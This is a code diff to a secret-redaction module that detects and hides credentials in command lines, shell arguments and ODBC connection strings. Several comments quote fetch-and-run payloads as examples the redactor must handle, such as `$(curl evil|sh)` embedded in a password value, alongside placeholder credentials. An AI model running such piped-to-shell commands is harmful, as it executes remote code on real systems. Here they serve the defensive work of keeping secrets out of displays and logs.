@@ -757,8 +757,11 @@ export const PROSE_RULES: ArgRules = {
   words: false,
 };
 
-/** A URL's start: a scheme where a run of scheme characters starts (so a long run is read once). */
-const URL_IN_WORD = /(?<![A-Za-z0-9+.-])[A-Za-z][A-Za-z0-9+.-]*:\/\/\S*/g;
+/**
+ * A URL's start: a scheme where a run of scheme characters starts (so a long run is read once), or
+ * right after a positional parameter's `$1` (a shell reads `$1https://…` as `$1` and the URL: r63-2).
+ */
+const URL_IN_WORD = /(?<![A-Za-z+.-]|(?<!\$)[0-9])[A-Za-z][A-Za-z0-9+.-]*:\/\/\S*/g;
 
 /**
  * The spans of one word's value that hold a secret, read as args are but only by whole names; a
@@ -1499,6 +1502,16 @@ export function commandLineSecrets(
           if (whole) span.written = whole;
           else span.end = span.start;
         }
+    // Written apart in a word read whole at once (`Password="x;y"X`): the value's text as written is
+    // hidden, quotes and all, where no quote is open at either end, so it fills back byte for byte
+    // (r63-6: the word was written again in '…', `'Password=${PASSWORD}'`, whose reference fills
+    // back the value as the shell reads it, not as written).
+    if (!word.dynamic && !word.data)
+      for (const span of spans)
+        if (split(span) && span.put === undefined && span.with === undefined) {
+          const whole = writtenWhole(line, word, span);
+          if (whole) span.written = whole;
+        }
     // A value hidden with its whole word hides every other value in the word with it.
     const wordTaken = spans.find((span) => span.written === wordWritten);
     if (wordTaken)
@@ -2002,7 +2015,9 @@ export function literalNamer(hide: SecretHide | undefined): (secret: string, nam
  * header (`X-Api-Key: X`), curl's `-u user:X`, a URL's credentials and key shapes; with
  * `rules.words`, one line of JSON read by its keys (see `jsonArgSecrets`), a shell's own command holding whitespace kept or replaced whole by a reference
  * `scriptName` names (see `shellScript`), and any other argument holding whitespace read as a
- * command line, every character but a secret's value kept (see `commandLineSecrets`). Undefined
+ * command line, every character but a secret's value kept (see `commandLineSecrets`), or replaced
+ * whole as a pasted `command` is when it holds a program's own command and that reading leaves a
+ * literal the display hides (`sh -c "srv --password \"X\""`). Undefined
  * when nothing is flagged.
  */
 export function readArg(
@@ -2078,6 +2093,16 @@ export function readArg(
     const assignment = ASSIGNMENT.exec(arg);
     const whole = assignment !== null && rules.telling(assignment[1] ?? "") && !afterShell;
     if (!whole) {
+      // One holding a program's own command that may hold a credential (see `pastedScript`) is
+      // replaced whole, as the same line pasted as a `command` is, when what the line's reading
+      // leaves still shows a literal the display hides (r63-1: `sh -c "node -e \"…f('X')\""`, a
+      // script one escaped quote level down, kept X in clear); else it is kept so rewritten.
+      const asks = () => "";
+      if (/\s/.test(arg) && pastedScript(arg, undefined, asks)) {
+        const read = lineSecrets(arg, undefined, asks, false);
+        if (shownLineSecrets(read?.safe ?? arg, undefined) !== undefined)
+          return pastedScript(arg, hide, scriptName) ?? undefined;
+      }
       return lineSecrets(arg, hide, scriptName, false);
     }
   }
@@ -2178,10 +2203,71 @@ function lineSecrets(
   display = false,
 ): ArgFound | undefined {
   if (LINE_BREAK.test(line) || HEREDOC.test(line)) return shellScript(line, hide, scriptName);
+  // A line the shell refuses (a quote or a run-time part left open) whose reading still leaves a
+  // telling name's literal value in clear (r63-3: `"x;Password=X`, `$(;Password=X`, `psql
+  // "Server=db;Pwd="X"$("`, where an old rule keeps a mixed value on such a line as written), or
+  // writes such a value again in '…' (`Password=X';` → `'Password=${PASSWORD}'`, which would not
+  // fill back byte for byte: r63-6): the first telling name's value is hidden to the line's end, in
+  // both views — the shell never runs the line, so no payload in it is run either — and what is
+  // before it read as before. The readings that decide it name no reference (`hide` is not asked).
+  const telling = tellingLiteral(line);
+  const asks = () => "SHELL_COMMAND";
+  if (
+    telling === undefined ||
+    closesInItself(line) ||
+    (tellingLiteral(lineReading(line, undefined, asks, shell, display)?.safe ?? line) === undefined &&
+      (lineReading(line, (text) => text, asks, shell, display)?.safe ?? line) === line)
+  )
+    return lineReading(line, hide, scriptName, shell, display);
+  const before = line.slice(0, telling.at);
+  const rest = line.slice(telling.at);
+  const read = lineReading(before, hide, scriptName, shell, display);
+  return {
+    sign: read?.sign ?? SecretSign.Flag,
+    safe: (read?.safe ?? before) + (hide ? hide(rest, telling.name) : reference(telling.name)),
+  };
+}
+
+/**
+ * A name whose whole name tells (see `wholeNameTells`) written before a literal value: `NAME=X`,
+ * `name: X`, `--name X`, `--name=X`, `${NAME:-X`, the value perhaps opened by quotes; a value that
+ * starts with a `$`, a backtick, a blank or a `;` is none. The first one's value's start (its quotes included) and
+ * its name; undefined when there is none. One pass (a name is read where a run of name characters starts).
+ */
+function tellingLiteral(text: string): { at: number; name: string } | undefined {
+  for (const match of text.matchAll(TELLING_BEFORE_VALUE)) {
+    const [whole, dashes = "", name = "", blank] = match;
+    if (blank !== undefined && dashes === "") continue;
+    if (!wholeNameTells(name)) continue;
+    let at = (match.index ?? 0) + whole.length;
+    // A parameter's default left open (`${DB_PASSWORD:-X`): its operator is no value.
+    if (text.startsWith("${", (match.index ?? 0) - 2) && /[-=?+]/.test(text[at] ?? "")) at += 1;
+    let k = at;
+    while (text[k] === '"' || text[k] === "'") k += 1;
+    const c = text[k];
+    if (c !== undefined && !/[\s;$`]/.test(c)) return { at, name };
+  }
+  return undefined;
+}
+
+/** A name (a flag's, with its dashes) and what ends it before a value: `=` or `:`, or a flag's blank. */
+const TELLING_BEFORE_VALUE = /(?<![\w.-])(-{0,2})([A-Za-z_][\w.-]*)(?:\s*[=:]\s*|(\s+))/g;
+
+/** See `lineSecrets`: the reading of a line with no line break or heredoc. */
+function lineReading(
+  line: string,
+  hide: SecretHide | undefined,
+  scriptName: () => string,
+  shell: boolean,
+  display: boolean,
+): ArgFound | undefined {
   const named = literalNamer(hide);
   // Shown (the display of a pasted line, which a shell reads), a telling pair's value that runs a
   // command (`TOKEN="x$(curl …|sh)"`) keeps that command in sight, as a command line's value
   // does (r57-1: read so only in the display; the export keeps the whole value).
+  // For the ODBC values below: whether the shell accepts the line, and one walk over it (values come in order).
+  let accepted: boolean | undefined;
+  let walk: { at: number; read: ReturnType<typeof shellStepper> } | undefined;
   const shown =
     display && shell
       ? (from: number, to: number, name: string) => {
@@ -2189,8 +2275,23 @@ function lineSecrets(
           // line's (r58-2: each pair's walk once ran to the line's end).
           const value = line.slice(from, to);
           // Only a value whose quotes and run-time parts all close in it (r60-1: `Password="x$(";Host=…`
-          // shown alone left a quote open, and the line read after the pairs took the next pair into it).
-          if (!closesInItself(value)) return undefined;
+          // shown alone left a quote open, and the line read after the pairs took the next pair into it)
+          // — or an ODBC `{…}` value on a line the shell accepts, read in the line as the shell reads
+          // it (r63-5: `Pwd={$(curl evil|sh)"};Host=h"`, whose quote closes after the pair's `;`, was
+          // hidden whole, payload and all): its payload shown, its literal text hidden in place.
+          if (!closesInItself(value)) {
+            if (value[0] !== "{") return undefined;
+            accepted ??= closesInItself(line);
+            if (!accepted) return undefined;
+            walk ??= { at: 0, read: shellStepper(line) };
+            return shownInPlace(
+              line,
+              walk,
+              [from, to],
+              (text) => named(text, name),
+              (text, quoted) => shownShellPart(text, hide, (literal) => named(literal, name), quoted),
+            );
+          }
           return shownInPlace(
             value,
             { at: 0, read: shellStepper(value) },
